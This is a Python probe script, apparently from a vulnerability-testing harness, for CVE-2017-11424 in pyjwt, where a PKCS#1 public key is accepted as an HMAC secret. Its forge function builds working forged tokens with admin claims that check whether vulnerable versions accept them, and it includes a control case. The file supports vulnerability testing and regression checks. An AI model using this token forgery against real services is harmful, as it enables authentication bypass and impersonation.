# /// vertice-probe
# id = "PYSEC-2017-24"
# aliases = ["CVE-2017-11424", "GHSA-r9jw-mwhq-wp62"]
# package = "pyjwt"
# summary = "A public key in PKCS#1 PEM form is taken as HMAC secret, so anybody with the public key signs tokens."
# severity = [{ type = "CVSS_V3", score = "CVSS:3.0/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:H/A:N" }]
# cwe = ["CWE-327", "CWE-347"]
# kind = "auth-bypass"
# symbols = ["jwt.decode", "jwt.PyJWT", "jwt.PyJWS", "jwt.algorithms.HMACAlgorithm"]
#
# [[affected]]
# package = "pyjwt"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "0" }, { fixed = "1.5.1" }] }]
#
# [cases]
# attack = "a token signed by HMAC with the PKCS#1 public key as secret is accepted"
# [cases.variants]
# jws = "the same through PyJWS with HS512 and a key file that has text before the PEM block"
# [cases.controls]
# shared_secret = "an HMAC token with an ordinary secret is signed and read, a forged one refused"
#
# [test]
# vulnerable = "1.5.0"
# fixed = "1.5.2"
# ///
"""CVE-2017-11424: a PKCS#1 public key serves as HMAC secret.

1.5.1 refuses such keys, but its jwt.decode refuses every token (arguments in the wrong order); 1.5.2 is the first
release that reads tokens again.
"""

import base64
import collections
import collections.abc
import hashlib
import hmac
import json
import sys

PUBLIC_KEY = b"""-----BEGIN RSA PUBLIC KEY-----
MEgCQQCXLJsZWCKb7OcfK4BhNKlHi2X5wN1HkJvKgQHMDYyTLqPS4KKMIhXyVdZp
ItUBvwC9Kgi1zaRNkMVVGHYmXrrdAgMBAAE=
-----END RSA PUBLIC KEY-----
"""


def load_jwt():
    for name in ("Mapping", "Iterable"):  # these releases look for them where they were until Python 3.9
        if not hasattr(collections, name):
            setattr(collections, name, getattr(collections.abc, name))
    import jwt

    return jwt


def part(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=")


def forge(algorithm, digest, secret, claims):
    """A token signed by hand, as somebody would who has only the public key."""
    head = part(json.dumps({"typ": "JWT", "alg": algorithm}).encode())
    body = head + b"." + part(json.dumps(claims).encode())
    return body + b"." + part(hmac.new(secret, body, digest).digest())


def attack():
    jwt = load_jwt()
    token = forge("HS256", hashlib.sha256, PUBLIC_KEY, {"user": "admin"})
    try:
        claims = jwt.decode(token, PUBLIC_KEY, algorithms=["RS256", "HS256"])
    except jwt.exceptions.InvalidKeyError as error:
        return "blocked", "InvalidKeyError: %s" % error
    if claims == {"user": "admin"}:
        return "exploited", "forged claims accepted with the public key as HMAC secret"
    return "error", "unexpected claims %r" % (claims,)


def jws():
    jwt = load_jwt()
    key = b"issued for shop.example\r\n" + PUBLIC_KEY.replace(b"\n", b"\r\n")
    token = forge("HS512", hashlib.sha512, key, {"user": "admin"})
    try:
        payload = jwt.PyJWS().decode(token, key, algorithms=["RS512", "HS512"])
    except jwt.exceptions.InvalidKeyError as error:
        return "blocked", "InvalidKeyError: %s" % error
    if json.loads(payload.decode()) == {"user": "admin"}:
        return "exploited", "forged payload accepted with the public key as HMAC secret"
    return "error", "unexpected payload %r" % (payload,)


def shared_secret():
    jwt = load_jwt()
    secret = "an ordinary long shared secret, 48 bytes of letters"
    token = jwt.encode({"user": "bob"}, secret, algorithm="HS256")
    try:
        read = jwt.decode(token, secret, algorithms=["HS256"])
    except jwt.exceptions.InvalidTokenError as error:
        return "broken", "own token refused, %s: %s" % (type(error).__name__, error)
    try:
        jwt.decode(forge("HS256", hashlib.sha256, b"wrong", {"user": "bob"}), secret, algorithms=["HS256"])
        refused = False
    except jwt.exceptions.DecodeError:
        refused = True
    good = read == {"user": "bob"} and refused
    return ("works", "own token read, forged one refused") if good else ("broken", "%r %r" % (read, refused))


CASES = {"attack": attack, "jws": jws, "shared_secret": shared_secret}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
